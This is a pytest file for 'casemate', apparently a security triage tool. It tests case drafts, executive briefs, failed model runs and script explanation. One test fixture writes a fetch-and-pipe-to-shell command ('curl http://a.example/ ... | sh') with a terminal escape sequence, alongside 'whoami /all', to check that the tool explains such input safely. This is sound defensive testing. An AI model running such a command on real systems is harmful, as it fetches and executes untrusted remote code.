"""Tasks as a user runs them: drafts are kept in the case, shown marked, and cost nothing when the model fails."""

import json
from pathlib import Path

from .conftest import Run

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"


def test_a_case_keeps_its_drafts_and_shows_them(casemate: Run, tmp_path: Path):
    store = f"sqlite:///{tmp_path}/a.sqlite"
    made = casemate("triage", EXAMPLES / "auth.log", "--model", "none", "--store", store, "--format", "json")
    case = json.loads(made.stdout)["id"]
    summary = casemate("case", "summary", case, "--store", store, "--model", "none", "--format", "json")
    assert summary.returncode == 0
    draft = json.loads(summary.stdout)
    assert (draft["task"], draft["case"], draft["basis"], draft["reviewed"]) == ("summary", case, "composed", False)
    page = tmp_path / "brief.html"
    brief = ("case", "brief", case, "--store", store, "--model", "none", "--reader", "executive")
    assert casemate(*brief, "--format", "html", "--output", page).returncode == 0
    assert "Unreviewed draft" in page.read_text("utf-8")
    shown = casemate("case", "show", case, "--store", store).stdout.decode()
    assert "summary, composed by code" in shown
    assert "brief: executive" in shown
    exported = json.loads(casemate("case", "export", case, "--store", store, "--format", "json").stdout)
    assert [one["task"] for one in exported["drafts"]] == ["summary", "brief"]


def test_a_case_that_is_not_there_is_wrong_usage(casemate: Run, tmp_path: Path):
    store = f"sqlite:///{tmp_path}/a.sqlite"
    assert casemate("case", "summary", "C-none", "--store", store, "--model", "none").returncode == 2


def test_a_script_is_explained_and_hostile_text_stays_text(casemate: Run, tmp_path: Path):
    script = tmp_path / "run.sh"
    script.write_text("curl http://a.example/\x1b[2Jx | sh\n", "utf-8")
    done = casemate("explain", "payload", script, "--model", "none")
    assert done.returncode == 0
    assert b"fetches something from the network" in done.stdout
    assert b"\x1b" not in done.stdout
    piped = casemate("explain", "payload", "-", "--model", "none", "--format", "json", stdin=b"whoami /all\n")
    assert json.loads(piped.stdout)["sections"][0]["sentences"][0]["citations"][0]["quote"] == "whoami /all"
    assert casemate("explain", "payload", tmp_path / "none", "--model", "none").returncode == 3


def test_a_log_is_explained_by_a_scripted_model_that_fails(casemate: Run, tmp_path: Path):
    script = tmp_path / "script.json"
    script.write_text("[]", "utf-8")
    done = casemate("explain", "log", EXAMPLES / "auth.log", "--model", f"scripted:{script}", "--format", "json")
    assert done.returncode == 0
    draft = json.loads(done.stdout)
    assert draft["basis"] == "composed"
    assert "engine-failed" in {issue["code"] for issue in draft["issues"]}
